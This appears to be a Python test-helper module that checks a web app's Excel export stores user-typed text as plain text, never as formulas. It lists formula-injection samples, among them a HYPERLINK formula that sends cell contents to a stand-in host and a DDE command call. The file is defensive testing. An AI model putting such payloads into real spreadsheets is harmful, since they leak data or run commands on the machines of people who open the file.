"""Reading an exported workbook back, and the free text that must come out of it as plain text."""
from io import BytesIO

from openpyxl import load_workbook

# Text a person may type that a spreadsheet would take for a formula (or a DDE call).
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def as_exported(text: str) -> str:
    """What a cell shows for stored text: a workbook keeps line breaks as line feeds."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def workbook(resp):
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(BytesIO(resp.data))


def formulas(wb) -> list[str]:
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def cells_with(wb, value) -> list:
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value == value]


def assert_all_text(wb, texts) -> None:
    """Each text is in some cell, literally and as a text cell; no cell of the workbook is a formula."""
    for text in texts:
        found = cells_with(wb, as_exported(text))
        assert found, f"{text!r} is not in the workbook"
        assert all(c.data_type == "s" for c in found), [(c.coordinate, c.data_type) for c in found]
    assert formulas(wb) == []


def confirmed(client):
    """The client after typing its password again, as an export asks (tests/core/test_export_reauth.py)."""
    client.confirm_password()
    return client


PERSONAL_REASON = "核对名单"


def personal(url: str) -> str:
    """The export with its personal columns asked for, with a reason (the password must be recent)."""
    return url + ("&" if "?" in url else "?") + f"personal=1&reason={PERSONAL_REASON}"
